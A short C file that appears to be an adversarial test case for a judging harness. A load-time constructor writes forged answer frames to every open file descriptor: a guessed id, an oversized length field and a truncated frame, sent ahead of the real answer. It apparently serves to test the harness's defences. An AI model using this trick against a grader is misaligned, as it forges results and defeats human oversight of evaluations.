/* Case: C035 forge-frame, C013 write-every-fd
 * Attacks: the answer pipe: frames with a guessed id, an over-long one, half a one, before the real answer
 * On-reference: function worse, program same or worse
 * Undefended: answer */
#include <stdint.h>
#include <unistd.h>

__attribute__((constructor)) static void forge_frame(void)
{
	static const uint8_t frames[] = {
		0, 0, 0, 5, 0, 0, 0, 0, 0,             /* id 0, status 0, nothing */
		0xff, 0xff, 0xff, 0xff, 0, 0, 0, 1, 0, /* four gigabytes */
		0, 0, 0, 9, 0, 0, 0, 2, 0, 1, 2, 3,    /* cut short */
	};
	for (int fd = 3; fd < 1024; fd++)
		(void)!write(fd, frames, sizeof(frames));
}
